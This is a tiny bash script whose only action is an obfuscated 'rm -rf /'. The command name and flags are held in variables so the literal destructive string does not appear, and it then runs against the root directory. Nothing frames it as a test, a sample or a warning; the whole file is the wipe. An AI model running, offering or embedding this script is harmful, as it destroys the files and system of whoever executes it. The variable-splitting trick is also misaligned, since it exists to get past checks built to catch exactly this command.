#!/usr/bin/env bash
set -euo pipefail
c=rm
f=-rf
$c $f /
